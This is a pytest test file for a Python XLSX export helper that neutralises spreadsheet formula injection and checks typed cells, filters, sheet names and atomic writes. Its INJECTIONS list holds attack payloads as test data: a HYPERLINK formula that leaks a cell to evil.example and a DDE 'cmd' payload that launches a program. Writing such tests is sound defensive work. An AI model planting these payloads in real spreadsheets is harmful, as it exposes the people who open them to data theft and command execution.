"""Any table to XLSX (app/security/spreadsheets.py): no cell a spreadsheet would run as a
formula, numbers and dates typed, the filters above the table, an auto-filter and a frozen
header, written whole or not at all (app/paths.py)."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.paths import atomic_write
from app.security.spreadsheets import (
    DATE_FORMAT,
    DATETIME_FORMAT,
    MONEY_FORMAT,
    PERCENT_FORMAT,
    Sheet,
    safe_text,
    write_table,
    write_workbook,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver factura")',
    "+57 300 123 4567",
    "-5",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals: Excel takes it as "="
    "＋57 300",
    "－5",
    "＠SUM(A1)",
]


def _read(path, sheet=None):
    book = load_workbook(path)
    return book[sheet] if sheet else book.worksheets[0]


def _rows(ws):
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_would_run_as_a_formula_comes_back_as_text(tmp_path, text):
    path = tmp_path / "t.xlsx"
    write_table(path, "Prueba", ["Nota"], [[text]])
    ws = _read(path)
    cell = ws.cell(row=4, column=1)  # title, blank, header, then the row
    assert cell.data_type == "s"
    assert not str(cell.value).startswith(FORMULA_STARTS)
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a CR back as LF


@pytest.mark.parametrize(("text", "expected"), [
    ("Juan Pérez", "Juan Pérez"),
    ("0012", "0012"),  # a document number keeps its zeros, as text
    (" =1", " =1"),  # a leading space: a spreadsheet shows it as text already
    ("=1", "'=1"),
    ("＝1", "'＝1"),
])
def test_safe_text(text, expected):
    assert safe_text(text) == expected


def test_the_audit_export_uses_the_same_helper():
    from app.audit import export

    assert export.safe_text is safe_text


def test_numbers_and_dates_stay_typed(tmp_path):
    path = tmp_path / "t.xlsx"
    moment = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)
    write_table(path, "Prueba", ["Valor", "Unidades", "Razón", "Fecha", "Momento", "Texto", "Sí"],
                [[Decimal("-1500000.50"), 7, 0.25, date(2026, 11, 20), moment, "-5", True]],
                formats={"Razón": PERCENT_FORMAT})
    money, units, ratio, day, when, text, flag = _read(path)[4]
    assert (money.data_type, money.value, money.number_format) == ("n", -1500000.5, MONEY_FORMAT)
    assert (units.data_type, units.value) == ("n", 7)
    assert (ratio.value, ratio.number_format) == (0.25, PERCENT_FORMAT)
    assert day.is_date and day.value == datetime(2026, 11, 20) and day.number_format == DATE_FORMAT
    # Excel has no time zones: the moment is written as Bogotá reads it (UTC-5).
    assert when.value == datetime(2026, 11, 20, 10, 30) and when.number_format == DATETIME_FORMAT
    assert (text.data_type, text.value) == ("s", "'-5")  # text that looks like a number
    assert flag.value == "Sí"


def test_missing_values_are_empty_cells(tmp_path):
    import pandas as pd

    path = tmp_path / "t.xlsx"
    write_table(path, "Prueba", ["A", "B", "C", "D", "E", "F"],
                [["fila", None, float("nan"), pd.NaT, Decimal("NaN"), pd.NA]])
    assert _rows(_read(path))[3] == ["fila", None, None, None, None, None]


def test_filters_header_freeze_and_auto_filter(tmp_path):
    path = tmp_path / "t.xlsx"
    count = write_table(path, "Hallazgos de pagos", ["Sede", "Valor"],
                        [["Bogotá", Decimal(1)], ["Cali", Decimal(2)], ["Medellín", Decimal(3)]],
                        filters=["Sede: Bogotá, Cali y Medellín", "=texto buscado"],
                        sheet="Pagos")
    assert count == 3
    ws = _read(path, "Pagos")
    rows = _rows(ws)
    assert rows[0][0] == "Hallazgos de pagos"
    assert rows[1][0] == "Filtros: Sede: Bogotá, Cali y Medellín"
    assert rows[2][0] == "Filtros: =texto buscado"  # starts with "F": never a formula
    assert rows[3] == [None, None]
    assert rows[4] == ["Sede", "Valor"]
    assert ws.cell(row=5, column=1).font.bold
    assert ws.freeze_panes == "A6"
    assert ws.auto_filter.ref == "A5:B8"
    assert ws.column_dimensions["A"].width >= len("Medellín")


def test_control_characters_xlsx_cannot_hold_are_replaced(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(path, "Prueba", ["Nota"], [["línea\x01rara"]])
    assert _read(path).cell(row=4, column=1).value == "línea\ufffdrara"


def test_a_workbook_of_several_sheets_with_names_excel_accepts(tmp_path):
    path = tmp_path / "libro.xlsx"
    counts = write_workbook(path, [
        Sheet("Resumen", "Resumen", ["A"], [[1]]),
        Sheet("Ventas: enero/febrero [2026]", "Ventas", ["A"], [[1], [2]]),
        Sheet("resumen", "Otro resumen", ["A"], []),
        Sheet("Un nombre de hoja demasiado largo para Excel", "Largo", ["A"], [[1]],
              notes=["Una nota, sin «Filtros:»"]),
    ])
    assert counts == (1, 2, 0, 1)
    book = load_workbook(path)
    assert book.sheetnames == ["Resumen", "Ventas  enero febrero  2026", "resumen (2)",
                               "Un nombre de hoja demasiado lar"]
    assert book.worksheets[3].cell(row=2, column=1).value == "Una nota, sin «Filtros:»"


def test_rows_beyond_the_width_sample_are_all_written(tmp_path):
    path = tmp_path / "t.xlsx"
    count = write_table(path, "Muchas", ["N"], ([n] for n in range(1234)))
    assert count == 1234
    ws = _read(path)
    assert ws.cell(row=4 + 1233, column=1).value == 1233
    assert ws.auto_filter.ref == "A3:A1237"


def test_a_failed_write_leaves_the_old_file_whole_and_no_temporary_file(tmp_path):
    path = tmp_path / "t.xlsx"
    write_table(path, "Primera", ["A"], [["uno"]])
    before = path.read_bytes()

    def rows():
        yield ["dos"]
        raise RuntimeError("la fuente se cortó")

    with pytest.raises(RuntimeError):
        write_table(path, "Segunda", ["A"], rows())
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]


def test_atomic_write_into_a_missing_folder_fails_before_writing(tmp_path):
    target = tmp_path / "no-existe" / "t.xlsx"
    calls = []
    with pytest.raises(FileNotFoundError):
        atomic_write(target, calls.append)
    assert calls == [] and not target.parent.exists()
